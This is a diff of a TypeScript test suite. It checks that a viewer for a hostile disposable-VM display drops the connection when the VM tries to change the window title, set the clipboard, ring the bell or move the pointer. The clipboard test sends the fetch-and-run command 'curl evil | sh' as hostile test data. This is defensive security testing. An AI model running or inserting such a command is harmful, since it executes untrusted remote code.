@@ -40,43 +40,46 @@ describe('a hostile DispVM display', { skip: missingForWindows() ?? false }, () 
     await gui.waitFor('visible', dispvmId);
   };
 
-  test('cannot change the title, put anything on the clipboard, or get it', async () => {
-    const { dispvmId, server } = await attach();
-    await show(dispvmId, server);
-    const window = await gui.windowOf(dispvmId);
-    const title = await gui.titleOf(window);
-    server.sendDesktopName('[disp99] trusted — work');
-    server.sendCutText('curl evil | sh');
-    server.sendBell();
-    await delay(quietMs);
-    assert.equal(await gui.titleOf(window), title);
-    assert.match(title, /invoice\.pdf — view only, no network/);
-    assert.doesNotMatch(await gui.clipboardText(), /evil/);
-    assert.equal(gui.exitCode(), null);
-    gui.send({ type: 'close', dispvmId });
-    await server.stop();
-  });
+  const words: readonly (readonly [what: string, say: (server: RfbServer) => void])[] = [
+    ['a title', (server) => server.sendDesktopName('[disp99] trusted — work')],
+    ['a clipboard', (server) => server.sendCutText('curl evil | sh')],
+    ['a bell', (server) => server.sendBell()],
+    ['a pointer that would cover the label', (server) => server.sendCursor(64, 64)],
+  ];
+  for (const [what, say] of words) {
+    test(`loses its window by sending ${what}, and nothing of it is to be seen`, async () => {
+      const { dispvmId, server } = await attach();
+      await show(dispvmId, server);
+      const window = await gui.windowOf(dispvmId);
+      const title = await gui.titleOf(window);
+      assert.match(title, /invoice\.pdf — view only, no network/);
+      say(server);
+      await gui.waitFor('display-lost', dispvmId);
+      assert.equal(server.end(), 'broke-protocol');
+      assert.equal(await gui.titleOf(window), title);
+      assert.doesNotMatch(await gui.clipboardText(), /evil/);
+      assert.equal(gui.exitCode(), null);
+      gui.send({ type: 'close', dispvmId });
+      await server.stop();
+    });
+  }
 
   test('is asked for pixels, sizes and keys only', async () => {
     const { dispvmId, server } = await attach();
     await gui.waitFor('attached', dispvmId);
-    await delay(quietMs);
-    assert.deepEqual(server.encodings(), [0, 1, -223, -257, -258]);
+    assert.deepEqual(server.encodings(), [0, -223, -258]);
     gui.send({ type: 'close', dispvmId });
     await server.stop();
   });
 
-  test('cannot cover the label with its pointer', async () => {
+  test('is shown with our own pointer over it', async () => {
     const { dispvmId, server } = await attach();
     await show(dispvmId, server);
     await gui.runX('xdotool', 'mousemove', '640', '600');
     await delay(quietMs);
-    server.sendCursor(64, 64);
-    await delay(quietMs);
     // Xvfb draws the pointer into its framebuffer.
     const around = gui.screen.framebuffer.sample({ x: 600, y: 560, width: 120, height: 120 }, 60, 60);
     assert.ok(around.some((pixel) => pixel !== white), 'a pointer is drawn');
-    assert.ok(!around.some((pixel) => pixel === 0xff0000 || pixel === 0x0000ff), 'the pointer is ours');
     gui.send({ type: 'close', dispvmId });
     await server.stop();
   });
